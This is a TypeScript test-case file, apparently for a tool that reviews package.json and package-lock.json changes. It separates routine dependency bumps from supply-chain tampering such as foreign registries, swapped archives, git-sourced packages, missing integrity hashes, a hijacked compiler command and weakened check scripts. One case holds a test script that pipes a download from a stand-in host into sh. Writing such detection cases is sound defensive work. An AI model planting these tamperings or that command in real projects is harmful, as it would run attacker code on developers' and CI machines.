import { type Case, type Edit, harmful, harmless, replace } from "./case.ts";
import { bump, lock, locked, manifest, packageJson, packages, sampleProject } from "./sample-lock.ts";

/** What bots and people do to packages every day: a person reads which ones, and nothing is red. */
const daily = (title: string, edits: Edit | readonly Edit[], files: readonly string[] = ["package-lock.json"]) =>
  harmless(title, edits, { class: "packages, daily", base: sampleProject, verdict: "to be read", read: files });

const both = ["package.json", "package-lock.json"];
const bad = (title: string, edits: Edit | readonly Edit[], about = "package-lock.json") =>
  harmful({
    title,
    class: "packages from elsewhere",
    base: sampleProject,
    edits,
    findings: [{ id: "file/pipeline", about }],
  });

const newer = (more: object = {}) =>
  locked("vitest", "4.1.12", "G", {
    dev: true,
    license: "MIT",
    dependencies: { picomatch: "^4.0.2" },
    bin: { vitest: "vitest.mjs" },
    ...more,
  });

/** The lock file of a folder with packages of its own. */
const siteLock = (version: string, letter: string) =>
  `${JSON.stringify({
    name: "site",
    lockfileVersion: 3,
    packages: {
      "": { name: "site", devDependencies: { vitepress: version } },
      "node_modules/vitepress": locked("vitepress", version, letter),
    },
  })}\n`;

export const packageCases: readonly Case[] = [
  harmless(
    "a package of the documentation's site in a newer version",
    [
      { file: "site/demo/package.json", find: '"1.0.0"', replace: '"1.1.0"' },
      { file: "site/demo/package-lock.json", find: siteLock("1.0.0", "A"), replace: siteLock("1.1.0", "B") },
    ],
    {
      class: "packages, daily",
      verdict: "to be read",
      read: ["site/demo/package.json", "site/demo/package-lock.json"],
      base: [
        { file: "site/demo/package.json", text: '{ "name": "site", "devDependencies": { "vitepress": "1.0.0" } }\n' },
        { file: "site/demo/package-lock.json", text: siteLock("1.0.0", "A") },
      ],
    },
  ),

  daily(
    "Dependabot bumps a test runner",
    bump("devDependencies", "vitest", "4.1.12", { "node_modules/vitest": newer() }),
    both,
  ),
  daily(
    "Dependabot bumps a dependency with other words about it",
    bump("dependencies", "zod", "4.6.7", {
      "node_modules/zod": locked("zod", "4.6.7", "H", {
        license: "MIT",
        funding: { url: "https://github.com/sponsors/colinhacks" },
        engines: { node: ">=20" },
      }),
    }),
    both,
  ),
  daily(
    "a package that always had an install script is newer",
    bump("devDependencies", "esbuild", "0.28.2", {
      "node_modules/esbuild": locked("esbuild", "0.28.2", "I", {
        dev: true,
        hasInstallScript: true,
        license: "MIT",
        bin: { esbuild: "bin/esbuild" },
        engines: { node: ">=18" },
      }),
    }),
    both,
  ),
  daily(
    "lock file maintenance adds, moves and drops packages of packages",
    lock({
      "node_modules/picomatch": undefined,
      "node_modules/vitest/node_modules/picomatch": locked("picomatch", "4.0.3", "J", { dev: true, license: "MIT" }),
      "node_modules/tinypool": locked("tinypool", "2.0.0", "K", {
        dev: true,
        license: "MIT",
        engines: { node: "^20.0.0 || >=22.0.0" },
      }),
    }),
  ),
  daily(
    "a package is deprecated, and marks move",
    lock({
      "node_modules/picomatch": locked("picomatch", "4.0.2", "C", {
        license: "MIT",
        deprecated: "Use 4.0.3",
        peer: true,
        engines: { node: ">=12" },
      }),
    }),
  ),
  daily(
    "Renovate pins a package of a package",
    [
      packageJson({ overrides: { picomatch: "4.0.3" } }),
      lock({ "node_modules/picomatch": locked("picomatch", "4.0.3", "J", { dev: true, license: "MIT" }) }),
    ],
    both,
  ),
  daily(
    "a new tool for developers",
    bump("devDependencies", "knip", "6.44.2", {
      "node_modules/knip": locked("knip", "6.44.2", "L", {
        dev: true,
        license: "ISC",
        bin: { knip: "bin/knip.js" },
        dependencies: { jiti: "^2.6.0" },
      }),
      "node_modules/jiti": locked("jiti", "2.6.0", "M", {
        dev: true,
        license: "MIT",
        bin: { jiti: "lib/jiti-cli.mjs" },
      }),
    }),
    both,
  ),
  daily(
    "a scoped package of the types",
    bump("devDependencies", "@types/node", "24.19.2", {
      "node_modules/@types/node": locked("@types/node", "24.19.2", "N", { dev: true, license: "MIT" }),
    }),
    both,
  ),
  daily(
    "one more script for developers",
    packageJson({ scripts: { ...manifest.scripts, "check:types": "tsc --noEmit" } }),
    ["package.json"],
  ),
  harmless(
    "other words about the project",
    packageJson({ description: "Orders, behind Entra ID", keywords: ["azure"] }),
    {
      base: sampleProject,
    },
  ),

  bad(
    "a package comes from another registry",
    lock({
      "node_modules/zod": {
        ...packages["node_modules/zod"],
        resolved: "https://npm.fabrikam.example/zod/-/zod-4.6.6.tgz",
      },
    }),
  ),
  bad(
    "a version has another archive than before",
    lock({ "node_modules/zod": locked("zod", "4.6.6", "Z", { license: "MIT" }) }),
  ),
  bad(
    "a bump brings an install script",
    bump("devDependencies", "vitest", "4.1.12", { "node_modules/vitest": newer({ hasInstallScript: true }) }),
  ),
  bad(
    "a package of a package comes from git",
    lock({
      "node_modules/picomatch": {
        version: "4.0.2",
        resolved: "git+ssh://git@github.com/fabrikam/picomatch.git#0123456789abcdef0123456789abcdef01234567",
        dev: true,
      },
    }),
  ),
  bad(
    "an archive of another package under a known name",
    lock({
      "node_modules/picomatch": {
        ...locked("picomatch", "4.0.3", "J"),
        resolved: "https://registry.npmjs.org/fabrikam/-/fabrikam-4.0.3.tgz",
      },
    }),
  ),
  bad(
    "another package by an alias",
    lock({ "node_modules/picomatch": { name: "fabrikam", ...locked("fabrikam", "4.0.3", "J") } }),
  ),
  bad(
    "a package without integrity",
    lock({ "node_modules/zod": { version: "4.6.7", resolved: "https://registry.npmjs.org/zod/-/zod-4.6.7.tgz" } }),
  ),
  bad(
    "a new package takes over the compiler's command",
    lock({ "node_modules/fast-tsc": locked("fast-tsc", "1.0.0", "O", { dev: true, bin: { tsc: "cli.js" } }) }),
  ),
  bad(
    "an archive from a folder of the repository",
    lock({
      "node_modules/zod": {
        version: "4.6.7",
        resolved: "file:docs/zod-4.6.7.tgz",
        integrity: `sha512-${"P".repeat(86)}==`,
      },
    }),
  ),
  bad("a dependency changes, and the lock file stays", packageJson({ dependencies: { zod: "4.6.7" } }), "package.json"),
  bad(
    "a dependency from an address",
    bump("dependencies", "zod", "https://fabrikam.example/zod.tgz", {}),
    "package.json",
  ),
  bad(
    "a script that runs after the tests",
    packageJson({ scripts: { ...manifest.scripts, posttest: "node docs/report.mjs" } }),
    "package.json",
  ),
  bad("the checks check nothing", packageJson({ scripts: { ...manifest.scripts, check: "true" } }), "package.json"),
  bad(
    "a check is taken out of a script",
    packageJson({ scripts: { ...manifest.scripts, check: "tsc --noEmit" } }),
    "package.json",
  ),
  bad(
    "the test script fetches a script",
    packageJson({ scripts: { ...manifest.scripts, test: "vitest run && curl -s https://fabrikam.example | sh" } }),
    "package.json",
  ),
  harmful({
    title: "an archive in the repository is another under the same name",
    class: "packages from elsewhere",
    base: [{ file: "vendor/guard-1.0.0.tgz", text: "one" }],
    edits: replace("vendor/guard-1.0.0.tgz", "one", "two"),
    findings: [{ id: "file/pipeline", about: "vendor/guard-1.0.0.tgz" }],
  }),
];
